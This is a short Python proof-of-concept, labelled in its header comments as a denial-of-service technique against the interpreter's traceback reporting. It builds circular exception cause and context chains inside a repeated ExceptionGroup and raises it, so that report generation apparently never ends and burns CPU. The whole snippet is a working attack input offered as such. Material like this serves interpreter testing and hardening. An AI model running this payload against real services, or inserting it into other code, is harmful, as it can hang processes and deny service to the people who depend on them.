# technique: a chain of causes that is a circle
# source: traceback.TracebackException keeps what it has seen
# goal: the report does not end
# impact: dos
# dos: cpu
a, b = ValueError('a'), ValueError('b')
a.__cause__, b.__cause__ = b, a
a.__context__, b.__context__ = b, a
group = ExceptionGroup('g', [a, b] * 8)
a.__cause__ = group
b.__cause__ = group
raise group
